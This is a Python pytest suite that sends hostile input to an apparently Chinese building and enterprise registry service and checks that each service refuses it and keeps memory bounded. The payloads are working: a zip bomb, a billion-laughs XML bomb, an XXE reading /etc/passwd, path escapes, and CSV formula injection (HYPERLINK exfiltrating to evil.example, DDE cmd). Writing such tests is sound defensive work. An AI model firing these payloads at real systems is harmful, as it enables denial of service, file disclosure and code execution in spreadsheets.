"""Hostile input (issue #14 items 7, 8, 12, 15, 17, 18): oversized and deeply nested JSON, a
50,001-row facts batch, control and bidi characters, zip and XML bombs, XXE, formula cells and a
big-but-legal .xlsx. Every answer is a 4xx with a Chinese reason (an import may instead answer
with a report that saved nothing and names the refused row), and each service's peak RSS
(VmHWM of its process) stays under 400 MB."""

from __future__ import annotations

import io
import json
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest

from tests.attack.conftest import Product, figure, is_chinese

pytestmark = pytest.mark.attack

PEAK_RSS_LIMIT_MB = 400
BIG = 30 * 1024 * 1024  # well above any JSON cap and above the 20 MB file limit
OWN_STREET = "420106001"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# ----- hostile files --------------------------------------------------------------------

_SML = b"application/vnd.openxmlformats-officedocument.spreadsheetml"
_PKG = b"http://schemas.openxmlformats.org/package/2006/relationships"
_DOC = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="' + _SML + b'.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="' + _SML + b'.worksheet+xml"/>'
    b"</Types>"
)
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="' + _PKG + b'">'
    b'<Relationship Id="rId1" Type="' + _DOC + b'/officeDocument" Target="xl/workbook.xml"/>'
    b"</Relationships>"
)
_WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    b'<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="' + _PKG + b'">'
    b'<Relationship Id="rId1" Type="' + _DOC + b'/worksheet" Target="worksheets/sheet1.xml"/>'
    b"</Relationships>"
)
_SHEET_HEAD = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
_SHEET_TAIL = b"</sheetData></worksheet>"


def _xlsx(sheet_chunks: Callable[[], Any], prolog: bytes = b"") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CONTENT_TYPES)
        zf.writestr("_rels/.rels", _RELS)
        zf.writestr("xl/workbook.xml", _WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(prolog or _SHEET_HEAD)
            for chunk in sheet_chunks():
                sheet.write(chunk)
            sheet.write(_SHEET_TAIL)
    return buf.getvalue()


def zip_bomb() -> bytes:
    """A sheet that inflates to 400 MB of blanks (compression ratio ≈ 1000)."""

    def chunks() -> Any:
        block = b" " * (4 * 1024 * 1024)
        for _ in range(100):
            yield block

    return _xlsx(chunks)


def xml_bomb() -> bytes:
    """Billion laughs inside the worksheet."""
    entities = b'<!ENTITY lol0 "lololololololololololol">' + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">'.encode() for i in range(1, 10)
    )
    prolog = (
        b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [' + entities + b"]>"
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    )
    return _xlsx(lambda: iter(()), prolog=prolog)


def xxe() -> bytes:
    prolog = (
        b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'
    )
    return _xlsx(lambda: iter(()), prolog=prolog)


def big_legal_xlsx(rows: int = 12_000, cols: int = 200) -> bytes:
    """2.4 M numeric cells under a wrong header: legal by every file limit (size, ratio, columns),
    expensive if read whole."""
    rng = random.Random(14)
    values = [str(rng.randint(0, 99_999)).encode() for _ in range(997)]

    def chunks() -> Any:
        yield (
            b"<row>"
            + b"".join(b'<c t="inlineStr"><is><t>col' + str(c).encode() + b"</t></is></c>" for c in range(cols))
            + b"</row>"
        )
        k = 0
        for _ in range(rows):
            cells = []
            for _ in range(cols):
                cells.append(b"<c><v>" + values[k % 997] + b"</v></c>")
                k += 7
            yield b"<row>" + b"".join(cells) + b"</row>"

    return _xlsx(chunks)


def formula_csv(product: Product) -> bytes:
    """A buildings file whose name and address are formulas (=HYPERLINK, DDE)."""
    return (
        "楼宇名称,所属街道,地址\n"
        '"=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")",420106001,"=cmd|\' /C calc\'!A0"\n'
    ).encode("utf-8-sig")


# ----- the table ------------------------------------------------------------------------


@dataclass
class Case:
    name: str
    method: str
    path: str
    service: str = "gateway"  # "gateway": through the gateway; otherwise that service directly
    who: str | None = "bureau"
    json_body: Any = None
    raw: Callable[[], bytes] | None = None
    upload: Callable[[Product], bytes] | None = None
    upload_to: str = "file"
    upload_name: str = "攻击.xlsx"
    headers: dict[str, str] = field(default_factory=dict)


def _oversized() -> bytes:
    return b'{"name":"' + b"a" * BIG + b'","street_code":"420106001"}'


def _nested_arrays() -> bytes:
    return b"[" * 200_000 + b"]" * 200_000


def _nested_objects() -> bytes:
    return b'{"a":' * 100_000 + b"1" + b"}" * 100_000


def _facts_50001() -> bytes:
    row = {"credit_code": "91420106MA4KXXXX0X", "period": "2025-06", "kind": "tax_total", "value": 1}
    return json.dumps({"source": "tax_bureau", "rows": [row] * 50_001}).encode()


def _building(name: str) -> dict[str, Any]:
    return {"name": name, "street_code": OWN_STREET}


CASES = [
    *[
        Case(f"{BIG >> 20} MB JSON before sign-in → {svc}", "POST", path, service=svc, who=None, raw=_oversized)
        for svc, path in (
            ("gateway", "/api/registry/buildings"),
            ("registry", "/api/registry/buildings"),
            ("tasks", "/api/tasks/leads"),
            ("metrics", "/api/metrics/facts/batches"),
        )
    ],
    Case(f"{BIG >> 20} MB JSON signed in", "POST", "/api/registry/buildings", raw=_oversized),
    Case(
        f"{BIG >> 20} MB upload before sign-in",
        "POST",
        "/api/registry/imports/buildings",
        who=None,
        upload=lambda p: b"\0" * BIG,
    ),
    Case("200,000-deep JSON arrays → registry", "POST", "/api/registry/buildings", raw=_nested_arrays),
    Case("100,000-deep JSON objects → tasks", "POST", "/api/tasks/leads", raw=_nested_objects),
    Case("100,000-deep JSON objects → metrics", "POST", "/api/metrics/goals", raw=_nested_objects),
    Case("50,001-row facts batch", "POST", "/api/metrics/facts/batches", raw=_facts_50001),
    Case("NUL in a building name", "POST", "/api/registry/buildings", json_body=_building("攻击\u0000大厦")),
    Case(
        "right-to-left override in a building name",
        "POST",
        "/api/registry/buildings",
        json_body=_building("攻击\u202e厦大"),
    ),
    Case(
        "zero-width space in a building name", "POST", "/api/registry/buildings", json_body=_building("攻\u200b击大厦")
    ),
    Case(
        "escape character in an enterprise name",
        "POST",
        "/api/registry/enterprises",
        json_body={"credit_code": "91420106MA4K00001A", "name": "攻击\u001b[31m公司"},
    ),
    Case(
        "empty alias for a unit",
        "POST",
        "/api/tasks/units",
        json_body={"code": "atk", "name": "攻击单位", "kind": "department", "aliases": [""]},
    ),
    Case(
        "control character in a visit round's building code",
        "POST",
        "/api/tasks/visit-rounds",
        json_body={
            "name": "攻击走访",
            "building_codes": ["420106-0003\u0007"],
            "starts_on": "2026-01-01",
            "ends_on": "2026-12-31",
        },
    ),
    Case(
        "path escape in a visit round's building code",
        "POST",
        "/api/tasks/visit-rounds",
        json_body={
            "name": "攻击走访",
            "building_codes": ["../changes"],
            "starts_on": "2026-01-01",
            "ends_on": "2026-12-31",
        },
    ),
    Case("id above 2^63-1", "GET", "/api/registry/spaces/9223372036854775808"),
    Case("id above 2^63-1 → tasks", "GET", "/api/tasks/tasks/9223372036854775808"),
    Case("id above 2^63-1 → metrics", "GET", "/api/metrics/facts/batches/9223372036854775808"),
    Case("NUL in an SPA path", "GET", "/etc/passwd%00.html", who=None),
    Case(
        "zip bomb (.xlsx) → registry import",
        "POST",
        "/api/registry/imports/buildings?dry_run=true",
        upload=lambda p: zip_bomb(),
    ),
    Case("zip bomb (.xlsx) → facts upload", "POST", "/api/metrics/facts/upload", upload=lambda p: zip_bomb()),
    Case("XML bomb (.xlsx)", "POST", "/api/registry/imports/enterprises?dry_run=true", upload=lambda p: xml_bomb()),
    Case("XXE (.xlsx)", "POST", "/api/registry/imports/spaces?dry_run=true", upload=lambda p: xxe()),
    Case(
        "big-but-legal .xlsx (2.4 M cells, wrong header) → registry",
        "POST",
        "/api/registry/imports/enterprises?dry_run=true",
        upload=lambda p: big_legal_xlsx(),
    ),
    Case(
        "big-but-legal .xlsx (2.4 M cells, wrong header) → metrics",
        "POST",
        "/api/metrics/facts/upload",
        upload=lambda p: big_legal_xlsx(),
    ),
]


def _send(product: Product, case: Case) -> httpx.Response:
    base = product.url if case.service == "gateway" else product.service_url(case.service)
    headers = dict(case.headers)
    if case.who:
        headers.update(product.headers(case.who))
    with httpx.Client(base_url=base, timeout=120) as client:
        if case.upload is not None:
            kind = "text/csv" if case.upload_name.endswith(".csv") else XLSX
            files = {case.upload_to: (case.upload_name, case.upload(product), kind)}
            return client.request(case.method, case.path, files=files, headers=headers)
        if case.raw is not None:
            headers["Content-Type"] = "application/json"
            return client.request(case.method, case.path, content=case.raw(), headers=headers)
        if case.json_body is not None:
            return client.request(case.method, case.path, json=case.json_body, headers=headers)
        return client.request(case.method, case.path, headers=headers)


def _refused_in_chinese(resp: httpx.Response) -> str | None:
    """None when the answer is a proper refusal; else what is wrong with it."""
    if 400 <= resp.status_code < 500:
        return None if is_chinese(resp.text) else f"{resp.status_code} without a Chinese reason: {resp.text[:120]}"
    if resp.status_code < 300 and "application/json" in resp.headers.get("content-type", ""):
        body = resp.json()
        if isinstance(body, dict) and body.get("applied") is False and body.get("rejected_count", 0) > 0:
            return None if is_chinese(json.dumps(body, ensure_ascii=False)) else "report without a Chinese reason"
    return f"{resp.status_code}: {resp.text[:160]}"


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input_is_refused(product: Product, case: Case) -> None:
    fig = figure("hostile")
    fig.tried += 1
    try:
        resp = _send(product, case)
        problem = _refused_in_chinese(resp)
    except httpx.HTTPError as exc:
        problem = f"no answer ({type(exc).__name__})"
    if problem:
        fig.through += 1
        fig.notes.append(f"{case.name}: {problem}")
    assert problem is None, problem


def test_peak_memory_of_each_service(product: Product) -> None:
    peaks = product.peak_rss_mb()
    assert set(peaks) == {"gateway", "registry", "tasks", "metrics"}, peaks
    fig = figure("hostile")
    fig.notes.append("peak RSS (MB): " + ", ".join(f"{k} {v:.0f}" for k, v in sorted(peaks.items())))
    over = {k: round(v) for k, v in peaks.items() if v >= PEAK_RSS_LIMIT_MB}
    fig.tried += 4
    fig.through += len(over)
    assert not over, f"peak RSS over {PEAK_RSS_LIMIT_MB} MB: {over}"


def test_formula_cells_come_out_neutralised(product: Product) -> None:
    """SECURITY.md's rule for formula injection is on the way out: a name may start with ``=``
    (an import stores the text as typed, and takes off the apostrophe of the product's own
    export), and every export neutralises it so no spreadsheet runs it."""
    fig = figure("hostile")
    fig.tried += 1
    bureau = product.headers("bureau")
    with httpx.Client(base_url=product.url, timeout=120) as client:
        resp = client.post(
            "/api/registry/imports/buildings?dry_run=false",
            files={"file": ("攻击.csv", formula_csv(product), "text/csv")},
            headers=bureau,
        )
        assert resp.status_code == 200 and resp.json()["created"] == 1, resp.text
        text = client.get("/api/registry/exports/buildings?format=csv", headers=bureau).content.decode("utf-8-sig")
        rows = [line for line in text.splitlines() if "HYPERLINK" in line]
        problem = None
        if len(rows) != 1 or "'=HYPERLINK" not in rows[0] or "'=cmd|" not in rows[0]:
            problem = f"formula cells not neutralised in the export: {rows}"
        elif any(cell.lstrip('"').startswith(("=", "+", "@")) for cell in rows[0].split(",")):
            problem = f"a cell of the export starts a formula: {rows[0]}"
        # Take the building out again: the parts after this one measure the demo data.
        listing = client.get("/api/registry/buildings", params={"q": "HYPERLINK", "page_size": 10}, headers=bureau)
        for item in listing.json()["items"]:
            if "HYPERLINK" in item["name"]:
                path = f"/api/registry/buildings/{item['code']}"
                etag = client.get(path, headers=bureau).headers["etag"]
                gone = client.delete(path, headers={**bureau, "If-Match": etag})
                assert gone.status_code in (200, 204), gone.text
    if problem:
        fig.through += 1
        fig.notes.append(problem)
    assert problem is None, problem
